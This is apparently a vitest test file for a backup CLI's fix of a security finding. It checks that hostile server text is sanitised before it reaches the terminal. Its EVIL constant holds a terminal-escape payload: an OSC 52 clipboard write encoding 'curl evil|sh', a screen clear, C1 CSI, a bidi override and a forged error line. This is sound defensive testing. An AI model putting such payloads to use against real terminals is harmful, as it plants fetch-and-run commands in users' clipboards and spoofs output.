// Issue 18, finding 6: text from a hostile service reaches stderr (and the
// one-line results) only through the sanitising writer: no escape sequences
// (OSC 52 clipboard writes, a cleared screen, C1 CSI), no fake lines, and no
// echoed token. The service is a small server on 127.0.0.1.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { runCli, tempConfigDir } from '../helpers/cli.js';
import { startHostileServer, type HostileRequest, type LocalServer } from '../helpers/servers.js';
import { escapeLabelValue } from '../../src/output/prometheus.js';

const TOKEN = 'tok-hostile-echo-1234';
const JOB = '3f2b1c9e-8d4a-4b7e-9c1d-2a5e6f7a8b9c';
// OSC 52 (set the clipboard to "curl evil|sh"), clear the screen, C1 CSI, a bidi override, a fake line.
const EVIL = `\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2J\u009b31mred\u202e\nerror: fake line`;
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;

let srv: LocalServer & { received: HostileRequest[] };
let route: (req: IncomingMessage, res: ServerResponse) => void = () => {};
let cfg: ReturnType<typeof tempConfigDir>;

const json = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}) => {
  res.writeHead(status, { 'content-type': 'application/json', ...headers });
  res.end(JSON.stringify(body));
};

beforeAll(async () => {
  cfg = tempConfigDir();
  srv = await startHostileServer((req, res) => route(req, res));
});
afterAll(async () => {
  await srv.close();
  cfg.cleanup();
});
beforeEach(() => {
  srv.received.length = 0;
});

const cli = (args: string[]) =>
  runCli(args, {
    env: {
      BACKUPCTL_BASE_URL: srv.url,
      BACKUPCTL_TOKEN: TOKEN,
      BACKUPCTL_CONFIG_DIR: cfg.dir,
      BACKUPCTL_RETRY_BASE: '10ms',
      BACKUPCTL_RETRY_MAX_WAIT: '20ms',
    },
  });

/** Nothing a terminal would act on, no line the service made up, no token. */
function expectClean(text: string) {
  expect(text).not.toMatch(UNSAFE);
  expect(text).not.toMatch(/^error: fake line/m);
  expect(text).not.toContain(TOKEN);
}

describe('finding 6: service text on stderr goes through one sanitising writer', () => {
  it('status warnings for a 400 from the droplet, volume and resource endpoints (echoing the token)', async () => {
    route = (req, res) => {
      if (req.url?.startsWith('/v1/jobs')) return json(res, 200, { data: [], meta: { current_page: 1, last_page: 1 } });
      json(res, 400, { message: `${EVIL} ${req.headers.authorization}` });
    };
    const r = await cli(['status', '-o', 'table']);
    expect(r.stderr).toMatch(/^warning: could not read/m);
    expect(r.stderr).toContain('red');
    expectClean(r.stderr);
    expectClean(r.stdout);
  });

  it('jobs backup start without --wait: a status with a line break prints no fake line', async () => {
    route = (_req, res) => json(res, 200, { backup_id: `b-1${EVIL}`, status: `pending\nerror: fake line`, url: `https://x.example/${EVIL}` });
    const r = await cli(['jobs', 'backup', 'start', JOB, '-o', 'table']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('started (status pending error: fake line)');
    expectClean(r.stdout);
  });

  it('jobs backup start --wait: escapes in backup_id, and the completed-with-errors warning', async () => {
    const id = `b-2${EVIL}`;
    route = (req, res) => {
      if (req.method === 'POST') return json(res, 200, { backup_id: id, status: 'pending' });
      json(res, 200, { data: [{ id, status: 'completed_with_errors', created_at: '2026-01-01T00:00:00Z' }] });
    };
    const r = await cli(['jobs', 'backup', 'start', JOB, '--wait', '--poll-interval', '1s', '-o', 'table']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/started; waiting for it to end/);
    expect(r.stderr).toMatch(/^warning: backup b-2.*completed with errors$/m);
    expectClean(r.stderr);
    expectClean(r.stdout);
  });

  it('the "Downloaded … of backup <id>" line', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'backupctl-sec-out-'));
    try {
      route = (req, res) => {
        if (req.url?.startsWith('/files/')) return void res.end('data');
        json(res, 200, { data: { id: `b-3${EVIL}`, status: 'completed', files: [{ name: 'db.sql', url: `${srv.url}/files/db.sql`, size: '4 bytes' }] } });
      };
      const r = await cli(['jobs', 'backup', 'download', JOB, '9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d', '--dir', dir, '-q']);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).toMatch(/^Downloaded 1 file of backup b-3/m);
      expectClean(r.stderr);
      expect(readdirSync(dir)).toEqual(['db.sql']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('--debug traces of a non-JSON body and of header values (C1 \\u009b)', async () => {
    route = (_req, res) => {
      res.writeHead(404, { 'content-type': 'text/plain', 'x-evil': 'a\u009b2Jb' });
      res.end(`not found ${EVIL} ${TOKEN}`);
    };
    const r = await cli(['servers', 'list', '--debug']);
    expect(r.code).toBe(5);
    expect(r.stderr).toContain('[debug] < x-evil: ab');
    expectClean(r.stderr);
  });
});

describe('finding 6: Prometheus label values', () => {
  it('control characters, escapes and bidi overrides are stripped, quotes and backslashes escaped', () => {
    expect(escapeLabelValue(`db\u0007\u009b31m"x"\\\u202e\u001b[2J`)).toBe('db\\"x\\"\\\\');
    expect(escapeLabelValue('a\nb')).not.toMatch(/[\n\r]/);
  });
});
